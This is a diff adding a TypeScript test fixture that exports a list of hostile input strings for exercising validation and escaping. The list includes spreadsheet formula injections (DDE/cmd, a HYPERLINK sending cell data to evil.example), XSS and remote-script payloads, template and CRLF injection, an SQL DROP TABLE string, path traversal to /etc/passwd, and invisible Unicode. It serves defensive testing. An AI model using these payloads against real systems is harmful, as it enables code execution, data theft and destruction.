@@ -1,0 +1,213 @@
+const cells = ['=', '+', '-', '@'].flatMap((sign) => [
+  `${sign}1+1`,
+  `${sign}cmd|'/C calc'!A0`,
+  `${sign}HYPERLINK("https://evil.example/?"&A1;"open")`,
+  `${sign}SUM(A1:A9)*IMPORTXML("https://evil.example","//a")`,
+  `${sign}DDE("cmd";"/C calc";"x")`,
+]);
+
+const schemes = [
+  'javascript:',
+  'JaVaScRiPt:',
+  'vbscript:',
+  'data:text/html,',
+  'file:///',
+  'blob:',
+].flatMap((scheme) => [
+  `${scheme}alert(1)`,
+  `[a](${scheme}alert(1))`,
+  `<a href="${scheme}alert(1)">a</a>`,
+]);
+
+const handlers = ['onerror', 'onload', 'onclick', 'onfocus', 'onbegin', 'ontoggle'].flatMap(
+  (name) => [`" ${name}=alert(1) x="`, `' ${name}=alert(1) x='`, `<img src=x ${name}=alert(1)>`],
+);
+
+const ends = [
+  'title',
+  'style',
+  'script',
+  'textarea',
+  'svg',
+  'desc',
+  'template',
+  'noscript',
+  'iframe',
+].flatMap((name) => [`</${name}><script>alert(1)</script>`, `</${name.toUpperCase()} ><b>`]);
+
+const markup = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</script>',
+  '<svg onload=alert(1)>',
+  '<svg><animate attributeName=href to=javascript:alert(1)>',
+  '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>',
+  '<svg><use href="data:image/svg+xml,x#y"/></svg>',
+  '<math><mi xlink:href="javascript:alert(1)">',
+  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
+  '<object data=//evil.example>',
+  '<embed src=//evil.example>',
+  '<base href=//evil.example/>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
+  '<link rel=stylesheet href=//evil.example>',
+  '<form action=//evil.example><input name=q>',
+  '<style>*{background:url(//evil.example)}</style>',
+  '<b>bold</b>',
+  '<!--',
+  '-->',
+  '--!>',
+  '<!-- x --><b>',
+  ']]>',
+  '<![CDATA[x]]>',
+  '<?xml version="1.0"?>',
+  '<!DOCTYPE x [<!ENTITY a "b">]>&a;',
+  '&lt;script&gt;',
+  '&amp;amp;',
+  '&#x3c;b&#x3e;',
+  '&quot; onload=&quot;x',
+  '"><b>',
+  "'><b>",
+  '`><b>',
+  '" autofocus x="',
+  '\\u003cscript\\u003e',
+  '<>',
+  '<a',
+  '< script >',
+  '</p></body></html>',
+];
+
+const templates = [
+  '{{7*7}}',
+  '{{constructor.constructor("alert(1)")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to come out as it is
+  '${7*7}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to come out as it is
+  '`${alert(1)}`',
+  '{% include "x" %}',
+  '{%- assign x = 1 -%}',
+  '{{ "x" | upcase }}',
+  '<%= 7*7 %>',
+  '#{7*7}',
+  '*{7*7}',
+  '@{7*7}',
+  '[[7*7]]',
+  '%s%n%x',
+  '%0d%0aSet-Cookie:x=1',
+  '$&',
+  '$1$`',
+  '$$',
+  '__proto__',
+  'constructor',
+  'toString',
+  'hasOwnProperty',
+];
+
+const styles = [
+  'x;background:url(//evil.example)',
+  'x}*{color:red}',
+  'expression(alert(1))',
+  'url(javascript:alert(1))',
+  '@import "//evil.example"',
+  '\\00003cscript\\00003e',
+  '/*',
+  '*/',
+];
+
+const formats = [
+  'x;DTSTART:20200101',
+  'BEGIN:VEVENT',
+  'END:VCALENDAR',
+  'x\\nATTENDEE:mailto:a@evil.example',
+  'x,y;z\\:"',
+  '"}]}</script><script>alert(1)</script>',
+  '","@type":"Person","x":"',
+  '{"@context":"//evil.example"}',
+  "'; DROP TABLE clusters; --",
+  'a\tb',
+  '"a","b"',
+  "'a;b'",
+  '../../etc/passwd',
+  '..\\..\\windows',
+  'CON',
+  'a/b?c=d&e=f#g',
+  '%2e%2e%2f',
+  '//evil.example',
+  'https://evil.example/" onclick="x',
+  'mailto:a@evil.example?bcc=b',
+];
+
+const letters = [
+  '😀👩‍👩‍👧‍👦',
+  '🇬🇪🇹🇷🇦🇿',
+  'é̀̂̃',
+  'Z̸̧̛̗͙̈́a̶l̴g̵o̷',
+  'İıİi̇',
+  'ﷺ',
+  '𝕏𝓎𝔷',
+  'ქართᲥული',
+  'ß→SS',
+  '＜script＞',
+  '‹script›',
+  '﹤b﹥',
+  'ʼ＇ʹ',
+  '＝1+1',
+  'a\u00a0b',
+  'a\u3000b',
+  'a\u2009b',
+  '٣٤٥',
+  '漢字かな',
+  'שלום',
+  'مرحبا',
+  'x'.repeat(240),
+  'w'.repeat(120),
+  'a '.repeat(100).trim(),
+  '<'.repeat(60),
+  '&'.repeat(60),
+  '"'.repeat(60),
+  "'".repeat(60),
+  '\\'.repeat(60),
+];
+
+/** Signs that nobody sees; the check refuses them in every file. */
+const unseen = [
+  'a\u0000b',
+  'a\u0007b',
+  'a\u001b[31mb',
+  'a\u007fb',
+  'a\u0085b',
+  'a\u009fb',
+  'a\u2028b',
+  'a\u2029b',
+  'a\u202eb',
+  'a\u202ab',
+  'a\u2066b\u2069',
+  'a\u200eb',
+  'a\u200fb',
+  'a\u061cb',
+  'a\ufeffb',
+  'a\ufffdb',
+  'a\uffffb',
+  'a\ufdd0b',
+  'a\ud800b',
+  'a\udc00b',
+];
+
+/** Line breaks and signs without width; the schemas refuse them in lines. */
+const broken = [
+  'a\rb',
+  'a\r\nSet-Cookie: x=1',
+  'a\nBEGIN:VEVENT',
+  'a\r\n\r\n<script>alert(1)</script>',
+  'a\u200bb',
+  'a\u200cb',
+  'a\u00adb',
+  ' a',
+  'a ',
+];
+
+/** Strings that have broken programs, by what they were meant to break out of. */
+export const hostileStrings: readonly string[] = [
+  ...[...cells, ...schemes, ...handlers, ...ends, ...markup, ...templates, ...styles],
+  ...[...formats, ...letters, ...unseen, ...broken],
+];
